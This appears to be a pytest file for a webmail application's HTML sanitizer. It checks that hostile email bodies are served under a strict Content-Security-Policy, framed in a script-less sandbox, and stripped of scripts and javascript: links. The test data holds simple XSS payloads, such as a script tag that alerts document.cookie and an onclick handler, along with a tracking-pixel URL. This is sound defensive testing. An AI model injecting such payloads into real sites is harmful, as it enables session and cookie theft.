def test_text_to_html_does_not_link_javascript():
    output = text_to_html('javascript:alert(1) "><script>x</script>')
    assert parse(output).tags == []
    assert "<script" not in output


# --- the framed body, over HTTP ----------------------------------------------------------

HOSTILE_BODY = ("<p>Quarterly figures</p><script>alert(document.cookie)</script>"
                '<img src="https://tracker.example/pixel.png" alt="pixel">'
                '<a href="javascript:alert(1)" onclick="alert(2)">click</a>')


def _directives(policy: str) -> dict[str, str]:
    directives = {}
    for part in policy.split(";"):
        name, _, value = part.strip().partition(" ")
        if name:
            directives[name.lower()] = value.strip()
    return directives


@pytest.fixture
def delivered(app, client, make_tenant, auth):
    """A hostile HTML message received for pat@partner.test, who is signed in."""
    tenant = make_tenant("acme", domains=["acme.test"])
    mail = EmailMessage()
    mail["From"] = "alice@acme.test"
    mail["To"] = "pat@partner.test"
    mail["Subject"] = "Figures"
    mail["Message-ID"] = "<hostile-1@acme.test>"
    mail.set_content("Quarterly figures (text part)")
    mail.add_alternative(HOSTILE_BODY, subtype="html")
    ingest.receive(mail.as_bytes(policy=SMTP), "alice@acme.test",
                   ["pat@partner.test"], mode="external")
    db.session.commit()

    pat = db.session.scalar(select(User).where(User.tenant_id == tenant.id,
                                               User.email == "pat@partner.test"))
    assert pat is not None, "ingest did not create the recipient's account"
    pat.password_hash = hash_password(PASSWORD)
    pat.must_change_password = False
    db.session.commit()
    auth.sign_in("pat@partner.test", slug="acme")
    message = db.session.scalar(select(Message).where(Message.subject == "Figures"))
    return message.public_id


def test_body_is_served_under_a_strict_policy(client, delivered):
    response = client.get(f"/inbox/{delivered}/body")
    assert response.status_code == 200
    policy = _directives(response.headers["Content-Security-Policy"])
    assert policy["default-src"] == "'none'"
    assert "script-src" not in policy
    assert "script-src-elem" not in policy and "script-src-attr" not in policy
    assert "'self'" in policy["img-src"].split()
    assert "http:" not in policy["img-src"] and "https:" not in policy["img-src"]
    assert policy["frame-ancestors"] == "'self'"
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"

    page = response.get_data(as_text=True)
    assert "<script" not in page.lower()
    assert "tracker.example" not in page
    assert BLOCKED_IMAGE in page
    assert "Quarterly figures" in page
    start = page.index(">", page.index("<body")) + 1
    assert hazards(page[start:page.index("</body>")]) == []


def test_body_with_remote_images_allows_them_and_nothing_more(client, delivered):
    response = client.get(f"/inbox/{delivered}/body?remote=1")
    assert response.status_code == 200
    policy = _directives(response.headers["Content-Security-Policy"])
    assert policy["default-src"] == "'none'"
    assert "script-src" not in policy
    sources = policy["img-src"].split()
    assert {"'self'", "http:", "https:"} <= set(sources)
    assert policy["frame-ancestors"] == "'self'"
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    page = response.get_data(as_text=True)
    assert "<script" not in page.lower()
    assert 'src="https://tracker.example/pixel.png"' in page


def test_the_framed_body_shows_a_removed_link_as_text(client, delivered):
    page = client.get(f"/inbox/{delivered}/body").get_data(as_text=True)
    assert f'<span title="{sanitize.LINK_REMOVED}">click</span>' in page
    assert "a[href] {" in page  # the frame's own link colour is for real links only


def test_message_page_frames_the_body_in_a_sandbox_without_scripts(client, delivered):
    response = client.get(f"/inbox/{delivered}")
    assert response.status_code == 200
    frames = [attrs for tag, attrs in parse(response.get_data(as_text=True)).tags
              if tag == "iframe"]
    assert len(frames) == 1
    assert "Show remote images" in response.get_data(as_text=True)
    frame = frames[0]
    assert frame["src"].startswith(f"/inbox/{delivered}/body")
    assert "sandbox" in frame
    tokens = frame["sandbox"].split()
    assert "allow-scripts" not in tokens
    assert "allow-top-navigation" not in tokens
    assert "allow-forms" not in tokens


def test_an_image_without_alt_gets_an_empty_one_and_a_given_alt_stays():
    """HTML requires alt on img (tests/test_html_valid.py): what the sender wrote stays."""
    output, _ = clean_html('<img src="cid:a@b"><img src="cid:c@d" alt="Chart">',
                           cid_url=lambda cid: f"/inline/{cid}")
    assert output == '<img src="/inline/a@b" alt=""><img src="/inline/c@d" alt="Chart">'
